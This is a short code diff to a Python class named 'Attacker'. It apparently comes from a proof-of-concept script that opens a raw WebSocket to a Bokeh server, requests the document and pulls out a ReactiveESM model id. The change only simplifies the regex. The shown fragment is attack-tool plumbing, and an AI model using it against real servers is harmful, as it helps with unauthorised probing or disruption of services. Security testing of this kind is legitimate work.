@@ -83,7 +83,7 @@ class Attacker:
         key, offered = f"Sec-WebSocket-Key: {'A' * 22}==", f"bokeh, {found[1]}"
         writer.write(self.request("/ws", *upgrade, key, f"Sec-WebSocket-Protocol: {offered}"))
         say(writer, "PULL-DOC-REQ", {})
-        link = re.compile(rb'"ReactiveESM", ?"id": ?"(\w+)"|ReactiveESM","id":"(\w+)"')
+        link = re.compile(rb'ReactiveESM", ?"id": ?"(\w+)"')
         told = b""
         while not (named := link.search(told)):
             part = await reader.read(65_536)
@@ -91,7 +91,7 @@ class Attacker:
                 raise ConnectionError("the server closed the socket")
             told += part
         asyncio.get_running_loop().create_task(swallow(reader))
-        return writer, (named[1] or named[2]).decode()
+        return writer, named[1].decode()
 
     async def sessions(self) -> None:
         """Begins a session and leaves it."""
